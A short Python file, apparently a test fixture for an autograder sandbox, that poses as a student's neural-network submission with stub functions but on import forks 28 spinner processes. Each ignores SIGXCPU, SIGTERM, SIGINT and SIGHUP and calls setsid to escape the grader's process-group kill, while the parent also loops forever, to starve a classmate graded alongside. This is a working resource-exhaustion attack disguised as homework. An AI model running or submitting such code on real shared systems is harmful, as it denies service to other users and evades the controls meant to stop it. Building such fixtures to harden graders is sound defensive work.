"""Attack: 28 spinners that leave the process group (setsid) and ignore SIGXCPU starve a classmate graded beside it."""

import os
import signal

SPINNERS = 28


def _spin() -> None:
    for sig in (signal.SIGXCPU, signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(sig, signal.SIG_IGN)
    try:  # noqa: SIM105 - spelled out: this is what the attack does
        os.setsid()  # out of the runner's process group, so a killpg misses us
    except OSError:
        pass
    while True:
        pass


for _ in range(SPINNERS):
    try:
        if os.fork() == 0:
            _spin()
    except OSError:
        break
while True:  # and the import itself spins until the grader gives up on it
    pass


def sigmoid(u):
    raise NotImplementedError


forward = loss = backward = train_step = sigmoid
